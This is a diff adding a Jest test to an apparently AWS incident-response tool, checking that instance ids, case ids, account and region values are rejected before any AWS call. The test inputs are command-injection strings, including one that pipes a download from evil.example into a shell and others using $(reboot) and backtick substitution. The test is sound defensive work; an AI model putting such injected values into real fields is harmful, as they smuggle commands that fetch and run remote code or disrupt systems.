@@ -386,3 +386,23 @@ describe('Step: writeManifest', () => {
     });
   });
 });
+
+describe('Steps: ids from outside', () => {
+  it.each([
+    ['instanceId', 'i-0a1b2c3d4e5f60718; curl evil.example | sh'],
+    ['instanceId', 'i-$(reboot)'],
+    ['caseId', 'CASE-20261123-AB12`id`'],
+    ['account', '333333333333 --profile other'],
+    ['region', 'us-east-1 && true'],
+  ])('refuses %s %j before any AWS call, naming the field', async (field, value) => {
+    const record = await openTestCase(SEEDED.instances.demo, ['analyze']);
+    const target = { caseId: record.id, instanceId: SEEDED.instances.demo, account: MEMBER, region: REGION };
+    const before = world.org.calls.length;
+
+    await expect(handler({ step: 'startMemoryCapture', ...target, [field]: value })).rejects.toMatchObject({
+      name: 'InvalidInputError',
+      message: expect.stringContaining(field),
+    });
+    expect(world.org.calls.length).toBe(before);
+  });
+});
